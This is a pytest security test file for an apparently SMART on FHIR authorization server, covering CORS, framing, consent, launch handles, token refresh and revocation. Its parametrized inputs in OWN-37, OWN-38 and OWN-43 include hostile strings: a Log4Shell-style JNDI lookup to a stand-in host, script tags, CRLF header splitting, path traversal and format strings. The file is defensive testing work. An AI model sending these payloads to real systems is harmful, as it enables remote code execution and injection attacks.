def test_the_page_of_a_launch_is_framed_by_its_ehrs_only(target: Target) -> None:
    """OWN-35: nothing that the request says adds an origin; without a launch nobody frames anything."""
    handle = str(target.launch()["launch"])
    url = target.pub.authorize_url(launch=handle, scope=LAUNCHED, prompt="login")
    for headers in ({}, {"Origin": "https://evil.example"}, {"Referer": "https://evil.example/"}):
        policy = target.send("GET", url, headers).header("content-security-policy") or ""
        assert re.findall(r"frame-ancestors ([^;]*)", policy) == [EHR_ORIGIN]
    for reply in (target.ask(), target.ask(launch="x", client_id="nobody"), target.send("GET", "/my-apps")):
        assert "frame-ancestors 'none'" in (reply.header("content-security-policy") or "")


def test_no_origin_reads_what_is_not_its_clients(target: Target) -> None:
    """OWN-36: an app that registered itself does not read for another client, and nobody with credentials."""
    metadata = target.vendor.register(redirect_uris=["https://evil.example/cb"])
    mine, theirs = ({**REFRESH, "client_id": name} for name in (metadata["client_id"], "public"))
    assert (
        post(target, "/token", theirs, {"Origin": "https://evil.example"}).header("access-control-allow-origin") is None
    )
    own = post(target, "/token", mine, {"Origin": "https://evil.example"})
    assert own.header("access-control-allow-origin") in {None, "https://evil.example"}
    for path in (
        "/token",
        "/introspect",
        "/launch",
        "/register",
        "/authorize",
        "/my-apps",
        "/login",
        "/web-messaging/introspect",
    ):
        for method in ("OPTIONS", "POST"):
            reply = target.send(
                method, path, [("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")]
            )
            assert reply.header("access-control-allow-credentials") is None
            assert reply.header("access-control-allow-origin") is None or path == "/token"


@pytest.mark.parametrize(
    "value", ["x" * 5_000, "<script>", '"},{"a":"', "a b", "\u00e9", "../../x", "%0d%0aX:1", "", "a,b"]
)
def test_a_request_id_from_outside_splits_nothing(target: Target, value: str) -> None:
    """OWN-37."""
    for path in ("/healthz", "/authorize", "/nowhere"):
        reply = target.send("GET", path, [("X-Request-Id", value)])
        assert re.fullmatch(r"[0-9a-f]{32}", reply.header("x-request-id") or ""), reply
        assert value == "" or value not in reply.text
    assert target.send("GET", "/healthz", {"X-Request-Id": "trace-00000001"}).header("x-request-id") == "trace-00000001"


@pytest.mark.parametrize(
    "agent",
    [
        '","level":"ERROR',
        "\x1b[31mred",
        "\u2028",
        "x" * 8_000,
        "${jndi:ldap://evil.example/x}",
        "%n%s",
        "</td><script>",
    ],
)
def test_what_a_client_says_of_itself_breaks_no_line(target: Target, agent: str) -> None:
    """OWN-38: every line of the log is read as JSON after the case, and none says ERROR."""
    headers = [("User-Agent", agent), ("Referer", agent), ("X-Forwarded-For", f"10.9.9.9, {agent}"[:200])]
    body = urlencode({**REFRESH, "client_id": agent[:200]}).encode()
    target.send("POST", f"/token?{quote(agent[:100])}=1", [*headers, ("Content-Type", FORM)], body)
    target.send("GET", f"/authorize?client_id={quote(agent[:100])}", headers)


def test_consent_for_one_app_is_none_for_another(target: Target) -> None:
    """OWN-39: an app at the same address, or with the same name, is asked for anew."""
    target.code_for_alice()
    twin = SmartApp(target, "asking", "https://conf.example/cb", FHIR, "x")
    for app in (target.sec, twin, target.key):
        reply = target.alice.open(app.authorize_url(scope=f"{ALONE} patient/Goal.rs", prompt="none"))
        target.redirected(reply, "consent_required", app)
    registered = target.vendor.register(client_name="Public Twin", redirect_uris=[f"{APP}/cb"])
    reply = target.alice.open(target.vendor.app(registered, FHIR).authorize_url(scope=ALONE, prompt="none"))
    assert "code" not in (reply.location_parameters if reply.header("location") else {})


def test_an_app_that_can_not_prove_itself_asks_every_time(target: Target) -> None:
    """OWN-40, RFC 8252 §8.6: a loopback address or a scheme of one's own can be anybody's."""
    browser = target.browser()
    for uri in ("http://127.0.0.1:51004/cb", "com.example.app:/cb"):
        app = replace(target.native, redirect_uri=uri)
        target.agreed(browser, "bob", app.authorize_url(scope=ALONE))
        page = browser.open(app.authorize_url(scope=ALONE))
        assert (page.status, 'value="allow"' in page.text) == (200, True)
        silent = browser.open(app.authorize_url(scope=ALONE, prompt="none"))
        assert silent.location_parameters["error"] == "consent_required"


def test_a_launch_is_for_its_user(target: Target) -> None:
    """OWN-41: alice's session is not looked at; alice who signs in for it gets no code."""
    target.code_for_alice()
    handle = str(target.launch()["launch"])
    reply = target.alice.open(target.pub.authorize_url(launch=handle, scope=LAUNCHED))
    told = target.rs.introspect(target.pub.redeem(reply.location_parameters["code"]).json()["access_token"])
    assert told["fhirUser"] == f"{FHIR}/Practitioner/dr"
    browser = target.browser()
    page = browser.open(target.pub.authorize_url(launch=str(target.launch()["launch"]), scope=LAUNCHED, prompt="login"))
    after = browser.sign_in(page, "alice", "alice-password")
    assert (after.status, after.header("location")) == (403, None)


def test_two_launches_have_nothing_in_common(target: Target) -> None:
    """OWN-42."""
    made = [target.launch() for _ in range(12)]
    handles, names = [one["launch"] for one in made], [one["launch_id"] for one in made]
    assert len({*handles, *names}) == 24
    assert all(len(handle) >= 43 for handle in handles)
    for name in names[:3]:
        target.redirected(target.pub.launched(name, LAUNCHED), "invalid_request")


@pytest.mark.parametrize(
    "name",
    ["MAIN", "%6dain", "main%00", "..%2fmain", "main;x", "main%20", "*", "other/../main", "\u043cain"],
)
def test_names_of_fhir_servers_in_addresses_are_exact(target: Target, name: str) -> None:
    """OWN-43: or decoded once to exactly this one."""
    path = f"/fhir-servers/{quote(name, safe='%/;*')}/.well-known/smart-configuration"
    reply = target.send("GET", path)
    assert reply.status == (200 if name == "%6dain" else 404)
    headers = {"X-Original-Method": "GET", "X-Original-URI": "/r4/Patient/A"}
    proxied = target.send("GET", f"/forward-auth/{quote(name, safe='%/;*')}", headers)
    assert proxied.status in {401, 403, 404}


def test_an_interaction_beside_other_parameters_resumes_nothing(target: Target) -> None:
    """OWN-44: it is a new request then, and a bad one."""
    browser, page = target.signed_in("alice", prompt="consent")
    interaction = re.findall(r'name="interaction" value="([^"]+)"', page.text)[0]
    for query in (
        f"interaction={interaction}&client_id=public",
        f"interaction={interaction}&interaction={interaction}",
    ):
        reply = browser.request("GET", f"{target.issuer}/authorize?{query}")
        assert (reply.status, reply.header("location")) == (400, None)


def test_the_grace_is_for_its_own_client(target: Target) -> None:
    """OWN-45."""
    first = target.bought(scope=OFFLINE)
    second = target.pub.refresh(first["refresh_token"]).json()
    for thief in (target.sec, target.native, target.key):
        reply = thief.post("/token", {"grant_type": "refresh_token", "refresh_token": first["refresh_token"]})
        target.refused(reply, 400, "invalid_grant")
    assert target.is_active(second["access_token"])
    assert target.pub.refresh(first["refresh_token"]).status == 200


def test_a_narrowed_refresh_never_leads_beyond_the_grant(target: Target) -> None:
    """OWN-46."""
    first = target.bought(scope=OFFLINE)
    narrow = target.pub.refresh(first["refresh_token"], scope="patient/Observation.r").json()
    assert narrow["scope"] == "patient/Observation.r"
    for scope in ("patient/Observation.cruds", f"{OFFLINE} patient/Condition.rs", "user/*.rs"):
        target.refused(target.pub.refresh(narrow["refresh_token"], scope=scope), 400, "invalid_scope")
    whole = target.pub.refresh(narrow["refresh_token"]).json()
    assert set(whole["scope"].split()) <= set(OFFLINE.split())


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS"])
def test_a_look_without_a_body_uses_nothing_up(target: Target, method: str) -> None:
    """OWN-47: a scanner of links in front of the browser, or one that asks what is possible."""
    handle = str(target.launch()["launch"])
    before = target.counts()[1:]
    url = target.pub.authorize_url(launch=handle, scope=LAUNCHED)
    assert target.send(method, url).header("location") is None
    cookies = "; ".join(f"{name}={value}" for name, value in target.alice.cookies.items())
    assert target.send(method, target.pub.authorize_url(scope=ALONE), {"Cookie": cookies}).header("location") is None
    assert target.counts()[1:] == before
    assert target.pub.code(handle, LAUNCHED)


def test_no_decision_is_made_by_following_a_link(target: Target) -> None:
    """OWN-48: every form is a POST; its address by GET is not there, or only a page."""
    browser, page = target.signed_in("alice", prompt="consent")
    interaction = re.findall(r'name="interaction" value="([^"]+)"', page.text)[0]
    query = urlencode({"interaction": interaction, "action": "allow", "keep": "patient/Observation.rs"})
    for path in ("/consent", "/login", "/select-patient", "/break-glass"):
        reply = browser.request("GET", f"{target.issuer}{path}?{query}")
        assert reply.status in {404, 405}
    signed_out = browser.request("GET", f"{target.issuer}/logout?action=sign_out&logout=x")
    assert signed_out.header("set-cookie") is None
    assert browser.submit(page, press="allow").location_parameters["code"]


def test_an_ehr_names_its_own_windows_and_a_handle_stays_in_one(target: Target) -> None:
    """OWN-49."""
    record = {"client_id": "public", "fhir_server": FHIR, "user": "Practitioner/dr", "patient": "A"}
    for origin in (
        "https://evil.example",
        "null",
        "*",
        f"{EHR_ORIGIN}/",
        EHR_ORIGIN.upper(),
        "http://ehr.example",
        f"{EHR_ORIGIN}.evil",
    ):
        target.refused(target.ehr.post("/launch", {**record, "web_messaging_origin": origin}), 400, "invalid_request")
    window = Window(target.ehr, target.pub)
    handle = window.handle(SCOPE)
    assert window.check(handle, origin=APP, window="w-1")["active"] is True
    assert window.check(handle, origin=APP, window="w-2") == {"active": False}
    assert window.check(handle, origin="https://conf.example", window="w-1") == {"active": False}


@pytest.mark.parametrize("way", ["refresh token", "code again", "session", "user", "client", "theft"])
def test_once_revoked_by_any_way_it_is_dead_for_everybody(target: Target, way: str) -> None:
    """OWN-50: FHIR servers, proxies, UserInfo and the app itself, at every worker."""
    code = target.pub.code(str(target.launch(session=f"own-50-{target.cases}")["launch"]), ONLINE)
    tokens = target.pub.redeem(code).json()
    token, refresh = tokens["access_token"], tokens["refresh_token"]
    assert through(target, token, "/r4/Patient/A").status == 204
    with again(target, client_id="public"):
        match way:
            case "refresh token":
                target.pub.revoke(refresh)
            case "code again":
                target.pub.redeem(code)
            case "session":
                target.ehr.end_session(f"own-50-{target.cases}")
            case "client":
                revoke_client(target, "public")
                time.sleep(A_SECOND)  # its tokens may be too many for tombstones: then the epoch tells every process
            case "user":
                target.services.revocation.revoke_user(target.rs.introspect(token)["sub"], "disabled")
            case "theft":
                target.pub.refresh(refresh)
                target.clock.forward(seconds=11)
                target.pub.refresh(refresh)
        assert not target.is_active(token)
        for worker in target.wire.workers:
            bearer = {"Authorization": f"Bearer {token}"}
            asked = {"X-Original-Method": "GET", "X-Original-URI": "/r4/Patient/A", **bearer}
            assert target.send("GET", "/forward-auth/main", asked, worker=worker).status == 401
            assert target.send("GET", "/userinfo", bearer, worker=worker).status == 401
        reply = target.pub.refresh(refresh)
        target.refused(reply, reply.status, "invalid_grant", "invalid_client")


def test_a_new_consent_brings_nothing_back(target: Target) -> None:
    """OWN-51: neither tokens nor a code that was not redeemed, for the same person, app and scope."""
    scope = f"{ALONE} offline_access"
    tokens = target.pub.redeem(for_bob(target, scope)[1]).json()
    _browser, code = for_bob(target, scope)
    take_everything_back(target, "bob")
    after = target.pub.redeem(for_bob(target, scope)[1]).json()
    assert target.is_active(after["access_token"])
    assert not target.is_active(tokens["access_token"])
    target.refused(target.pub.refresh(tokens["refresh_token"]), 400, "invalid_grant")
    target.refused(target.pub.redeem(code), 400, "invalid_grant")
    assert target.is_active(after["access_token"])
